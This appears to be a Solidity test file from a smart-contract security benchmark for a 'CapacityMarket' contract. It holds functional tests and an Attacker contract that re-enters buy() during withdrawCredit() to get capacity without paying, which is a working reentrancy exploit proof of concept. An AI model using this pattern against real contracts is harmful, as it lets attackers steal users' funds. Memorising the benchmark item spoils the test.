// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CapacityMarket.sol";

// assay-canary-220380ea-9cef-4e84-bfc0-d32234ec1349

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Takes ether only when it withdraws by itself, and then tries to withdraw again.
contract Customer {
    CapacityMarket internal market;
    bool internal takes;

    constructor(CapacityMarket market_) {
        market = market_;
    }

    receive() external payable {
        require(takes, "not now");
        takes = false;
        (bool success, bytes memory why) = address(market).call(abi.encodeCall(market.withdrawCredit, ()));
        bytes memory expected = abi.encodeWithSignature("Error(string)", "ReentrancyGuard: reentrant call");
        require(!success && keccak256(why) == keccak256(expected), "again");
    }

    function withdraw() external {
        market.addCredit{value: 1 ether}();
        takes = true;
        market.withdrawCredit();
    }
}

/// Buys capacity for the credit that is being paid out to it, ten times.
contract Attacker {
    CapacityMarket internal market;
    bool internal inside;

    constructor(CapacityMarket market_) {
        market = market_;
    }

    receive() external payable {
        if (inside) try market.buy(0, 40) {} catch {}
    }

    function run() external {
        inside = true;
        for (uint256 i = 0; i < 10; ++i) {
            market.addCredit{value: 2 ether}();
            market.withdrawCredit();
        }
        inside = false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant NOOR = address(0x9001);
    address internal constant SAMI = address(0x9002);

    CapacityMarket internal market;
    Attacker internal outsider;

    receive() external payable {}

    function setUp() public {
        market = new CapacityMarket();
        market.addPlan("standard", 0.05 ether, 1_000);
        market.addPlan("archive", 0.02 ether, 200);
        vm.deal(NOOR, 30 ether);
        vm.prank(NOOR);
        market.addCredit{value: 25 ether}();
        outsider = new Attacker(market);
        vm.deal(address(outsider), 2 ether);
    }

    function test_Regular() public {
        vm.prank(NOOR);
        market.buy(0, 100);
        require(market.balanceOf(NOOR) == 100 && market.creditOf(NOOR) == 20 ether, "bought");
        market.closePlan(1);
        vm.prank(NOOR);
        market.withdrawCredit();
        require(NOOR.balance == 25 ether && market.creditOf(NOOR) == 0, "withdrawn");
        vm.prank(NOOR);
        market.transfer(SAMI, 30);
        vm.prank(SAMI);
        market.redeem(10);
        require(market.balanceOf(SAMI) == 20 && market.totalSupply() == 90 && market.decimals() == 0, "capacity");
        vm.prank(NOOR);
        market.approve(SAMI, 5);
        vm.prank(NOOR);
        market.increaseAllowance(SAMI, 5);
        vm.prank(NOOR);
        market.decreaseAllowance(SAMI, 2);
        vm.prank(SAMI);
        market.transferFrom(NOOR, SAMI, 8);
        require(market.balanceOf(SAMI) == 28, "allowance");
        uint256 before = address(this).balance;
        market.collectRevenue();
        require(address(this).balance == before + 5 ether && address(market).balance == 0, "revenue");
        market.transferOwnership(NOOR);
        vm.prank(NOOR);
        market.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(NOOR, why);
        market.addPlan("own", 1, 1);
        refuses(NOOR, why);
        market.closePlan(0);
        refuses(NOOR, why);
        market.collectRevenue();
        refuses(NOOR, why);
        market.transferOwnership(NOOR);
        refuses(NOOR, why);
        market.renounceOwnership();
    }

    function test_RefusesPurchases() public {
        refuses(SAMI, abi.encodeWithSelector(ICapacityMarket.InsufficientCredit.selector, SAMI, 0.05 ether, 0));
        market.buy(0, 1);
        refuses(NOOR, abi.encodeWithSelector(PlanRegistry.InsufficientCapacity.selector, 201, 200));
        market.buy(1, 201);
        market.closePlan(1);
        refuses(NOOR, abi.encodeWithSelector(PlanRegistry.PlanNotOpen.selector, 1));
        market.buy(1, 1);
        refuses(SAMI, "ERC20: burn amount exceeds balance");
        market.redeem(1);
        refuses(SAMI, abi.encodeWithSelector(ICapacityMarket.NoCredit.selector, SAMI));
        market.withdrawCredit();
    }

    /// Ether that is not taken stops the payment.
    function test_RefusesFailedPayments() public {
        address customer = address(new Customer(market));
        vm.deal(customer, 1 ether);
        vm.prank(customer);
        market.addCredit{value: 1 ether}();
        refuses(customer, abi.encodeWithSelector(ICapacityMarket.PaymentFailed.selector, customer, 1 ether));
        market.withdrawCredit();
        vm.prank(NOOR);
        market.buy(0, 1);
        vm.deal(address(market), 0);
        vm.expectRevert(abi.encodeWithSelector(ICapacityMarket.PaymentFailed.selector, address(this), 0.05 ether));
        market.collectRevenue();
    }

    /// Whoever is being paid does not withdraw a second time.
    function test_RefusesToWithdrawTwice() public {
        Customer customer = new Customer(market);
        vm.deal(address(customer), 1 ether);
        customer.withdraw();
        require(market.creditOf(address(customer)) == 0, "withdrawn once");
    }

    function exploit() public {
        outsider.run();
    }

    function test_Exploit() public {
        exploit();
        require(market.balanceOf(address(outsider)) >= 400 && address(outsider).balance == 2 ether, "capacity was paid for");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(outsider);
    }

    /// There is ether for the revenue and for all credit.
    function covered() public view returns (bool) {
        uint256 credit = market.creditOf(NOOR) + market.creditOf(SAMI) + market.creditOf(address(outsider));
        return address(market).balance >= market.revenue() + credit;
    }
}
